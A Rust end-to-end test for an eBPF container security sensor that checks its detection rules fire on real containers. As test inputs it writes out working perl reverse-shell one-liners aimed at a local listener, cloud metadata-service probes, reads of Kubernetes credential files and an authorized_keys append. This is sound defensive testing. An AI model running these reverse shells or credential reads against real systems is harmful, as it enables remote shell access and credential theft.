//! End to end, the detection rules of issue 17 under the real sensor (root, real eBPF) with
//! real containers of the debootstrap test image: the cloud metadata service contacted (IPv4
//! and IPv6), the kubelet's credentials and an authorized_keys file read or written (the
//! kernel-side open filter must let those paths through), perl one-liner reverse shells
//! connecting to a listener of the test, a reconnaissance burst, a forged timestamp and the
//! harmless test alert. Each container must raise exactly the expected rules, and the benign
//! ones nothing. Needs root, a BTF kernel, dockerd (`tests/images/start-dockerd.sh`) and the
//! test rootfs (`tests/images/build.sh`); a missing piece fails the test, it never skips.

use std::collections::{BTreeMap, BTreeSet};
use std::io::{Read, Write};
use std::net::TcpListener;
use std::time::{Duration, Instant};

use serde_json::Value;

mod sensor_support;
use sensor_support::{docker, ensure_image, spawn_sensor, Containers, IMAGE};

struct Case {
    name: &'static str,
    opts: Vec<String>,
    cmd: Vec<String>,
    rules: BTreeSet<&'static str>,
}

fn case(name: &'static str, opts: &[&str], cmd: &[&str], rules: &[&'static str]) -> Case {
    Case {
        name,
        opts: opts.iter().map(|s| s.to_string()).collect(),
        cmd: cmd.iter().map(|s| s.to_string()).collect(),
        rules: rules.iter().copied().collect(),
    }
}

/// perl: one connection attempt to `addr` (IPv4 or IPv6) port 80; the network is `none`,
/// so it fails at once, but the connect call is what the sensor sees.
fn metadata_probe(v6: bool, addr: &str) -> String {
    if v6 {
        format!(
            r#"use Socket qw(:all); socket(S, AF_INET6, SOCK_STREAM, 0) or die "socket: $!";
connect(S, pack_sockaddr_in6(80, inet_pton(AF_INET6, "{addr}"))); exit 0;"#
        )
    } else {
        format!(
            r#"use Socket; socket(S, PF_INET, SOCK_STREAM, 0) or die "socket: $!";
connect(S, sockaddr_in(80, inet_aton("{addr}"))); exit 0;"#
        )
    }
}

/// The classic perl reverse shell: connect, wire the socket to stdio, exec a shell.
fn perl_reverse_shell(port: u16) -> String {
    format!(
        r#"use Socket;$i="127.0.0.1";$p={port};socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){{open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");}};"#
    )
}

/// Its variant that keeps perl and starts the shell as a child.
fn perl_reverse_shell_child(port: u16) -> String {
    format!(
        r#"use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in({port},inet_aton("127.0.0.1"))) or die;open(STDIN,"<&S");open(STDOUT,">&S");system("/bin/sh","-i");"#
    )
}

#[test]
fn sensor_raises_the_new_detections_in_real_containers() {
    ensure_image();
    let dir = tempfile::tempdir().unwrap();
    let alerts_path = dir.path().join("alerts.jsonl");
    // No list files from the machine's database directory.
    std::env::set_var("PALISADE_LISTS_DIR", dir.path().join("no-lists"));
    let (mut sensor, log) = spawn_sensor(&alerts_path, "150");

    // A fake kubelet directory and /etc/kubernetes, bind-mounted where the node has them.
    let kubelet = dir.path().join("kubelet");
    std::fs::create_dir_all(kubelet.join("pki")).unwrap();
    std::fs::write(
        kubelet.join("pki/kubelet-client-current.pem"),
        "-----BEGIN CERTIFICATE-----\n",
    )
    .unwrap();
    let etc_k8s = dir.path().join("etc-kubernetes");
    std::fs::create_dir_all(&etc_k8s).unwrap();
    std::fs::write(etc_k8s.join("admin.conf"), "apiVersion: v1\nkind: Config\n").unwrap();
    std::fs::write(etc_k8s.join("notes.txt"), "not a credential\n").unwrap();
    let kubelet_mount = format!("{}:/var/lib/kubelet:ro", kubelet.display());
    let etc_mount = format!("{}:/etc/kubernetes:ro", etc_k8s.display());

    // The attacker's listener for the reverse shells: answers `exit` to every shell.
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let server = std::thread::spawn(move || {
        let mut served = 0;
        listener.set_nonblocking(true).unwrap();
        let deadline = Instant::now() + Duration::from_secs(90);
        while served < 2 && Instant::now() < deadline {
            match listener.accept() {
                Ok((mut c, _)) => {
                    c.set_nonblocking(false).unwrap();
                    c.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
                    let _ = c.write_all(b"exit\n");
                    let mut sink = Vec::new();
                    let _ = c.read_to_end(&mut sink);
                    served += 1;
                }
                Err(_) => std::thread::sleep(Duration::from_millis(50)),
            }
        }
        served
    });

    let none = ["--network", "none"];
    let host = ["--network", "host"];
    let cases = vec![
        case(
            "imds4",
            &none,
            &["perl", "-e", &metadata_probe(false, "169.254.169.254")],
            &["PAL-NODE-050"],
        ),
        case(
            "imds6",
            &none,
            &["perl", "-e", &metadata_probe(true, "fd00:ec2::254")],
            &["PAL-NODE-050"],
        ),
        case(
            "kubelet",
            &["--network", "none", "-v", &kubelet_mount],
            &["cat", "/var/lib/kubelet/pki/kubelet-client-current.pem"],
            &["PAL-NODE-052"],
        ),
        case(
            "adminconf",
            &["--network", "none", "-v", &etc_mount],
            &["cat", "/etc/kubernetes/admin.conf"],
            &["PAL-NODE-052"],
        ),
        case(
            "sshkeys",
            &none,
            &[
                "sh",
                "-c",
                "mkdir -p /home/bob/.ssh && cd /home/bob/.ssh && echo 'ssh-ed25519 AAAA x' >> authorized_keys",
            ],
            &["PAL-NODE-060"],
        ),
        case(
            "revshell",
            &host,
            &["perl", "-e", &perl_reverse_shell(port)],
            &["PAL-NODE-058"],
        ),
        case(
            "revchild",
            &host,
            &["perl", "-e", &perl_reverse_shell_child(port)],
            &["PAL-NODE-058", "PAL-NODE-059"],
        ),
        case(
            "recon",
            &none,
            &[
                "sh",
                "-c",
                "whoami; id; uname -a; hostname; df -h; mount; true",
            ],
            &["PAL-NODE-055"],
        ),
        case(
            "testalert",
            &none,
            &["echo", "PALISADE-TEST-ALERT"],
            &["PAL-NODE-056"],
        ),
        // Benign: reading a non-credential file below the same mounts, a connection
        // elsewhere, a few survey commands, an ordinary touch.
        case(
            "benign-files",
            &["--network", "none", "-v", &etc_mount],
            &["sh", "-c", "cat /etc/kubernetes/notes.txt; id; uname -m; touch /tmp/ready"],
            &[],
        ),
        case(
            "benign-connect",
            &none,
            &["perl", "-e", &metadata_probe(false, "10.20.30.40")],
            &[],
        ),
    ];

    let tag = std::process::id();
    let name = |n: &str| format!("pal-detect-{tag}-{n}");
    let mut containers = Containers(Vec::new());
    let mut ids = BTreeMap::new();
    for c in &cases {
        let cname = name(c.name);
        containers.0.push(cname.clone());
        let mut args: Vec<&str> = vec!["run", "--name", &cname];
        args.extend(c.opts.iter().map(String::as_str));
        args.push(IMAGE);
        args.extend(c.cmd.iter().map(String::as_str));
        let (ok, out) = docker(&args);
        assert!(ok, "{cname}: {out}");
        ids.insert(
            cname.clone(),
            docker(&["inspect", "-f", "{{.Id}}", &cname]).1,
        );
    }
    assert_eq!(server.join().unwrap(), 2, "both reverse shells connected");

    let expected: BTreeSet<(String, String)> = cases
        .iter()
        .flat_map(|c| c.rules.iter().map(move |r| (name(c.name), r.to_string())))
        .collect();
    let read = || -> Vec<Value> {
        std::fs::read_to_string(&alerts_path)
            .unwrap_or_default()
            .lines()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect()
    };
    let prefix = format!("pal-detect-{tag}-");
    let ours = |alerts: &[Value]| -> BTreeSet<(String, String)> {
        alerts
            .iter()
            .filter_map(|a| {
                let n = a["container"]["name"].as_str()?;
                n.starts_with(&prefix)
                    .then(|| (n.to_string(), a["rule_id"].as_str().unwrap().to_string()))
            })
            .collect()
    };
    let deadline = Instant::now() + Duration::from_secs(30);
    while !expected.is_subset(&ours(&read())) && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(200));
    }
    std::thread::sleep(Duration::from_secs(2));
    let _ = sensor.kill();
    let _ = sensor.wait();
    let log = log.join().unwrap();
    let alerts = read();
    let got = ours(&alerts);
    assert_eq!(
        got,
        expected,
        "missing: {:?}\nunexpected: {:?}\nsensor log:\n{log}",
        expected.difference(&got).collect::<Vec<_>>(),
        got.difference(&expected).collect::<Vec<_>>(),
    );

    for a in &alerts {
        let Some(n) = a["container"]["name"].as_str() else {
            continue;
        };
        let Some(id) = ids.get(n) else { continue };
        assert_eq!(a["container"]["id"], id.as_str(), "{a}");
        let ev = &a["evidence"];
        match a["rule_id"].as_str().unwrap() {
            "PAL-NODE-050" if n.ends_with("imds4") => {
                assert_eq!(ev["addr"], "169.254.169.254", "{a}")
            }
            "PAL-NODE-050" => assert_eq!(ev["addr"], "fd00:ec2::254", "{a}"),
            "PAL-NODE-052" if n.ends_with("-kubelet") => assert_eq!(
                ev["path"], "/var/lib/kubelet/pki/kubelet-client-current.pem",
                "{a}"
            ),
            "PAL-NODE-052" => assert_eq!(ev["path"], "/etc/kubernetes/admin.conf", "{a}"),
            // The relative `>> authorized_keys` made absolute with the working directory.
            "PAL-NODE-060" => {
                assert_eq!(ev["path"], "/home/bob/.ssh/authorized_keys", "{a}")
            }
            "PAL-NODE-058" => {
                assert_eq!(ev["addr"], "127.0.0.1", "{a}");
                assert_eq!(a["process"]["name"], "perl", "{a}");
            }
            "PAL-NODE-059" => assert_eq!(a["process"]["name"], "sh", "{a}"),
            "PAL-NODE-056" => assert_eq!(a["severity"], "LOW", "{a}"),
            _ => {}
        }
    }
    assert!(!log.contains("events dropped"), "{log}");
}
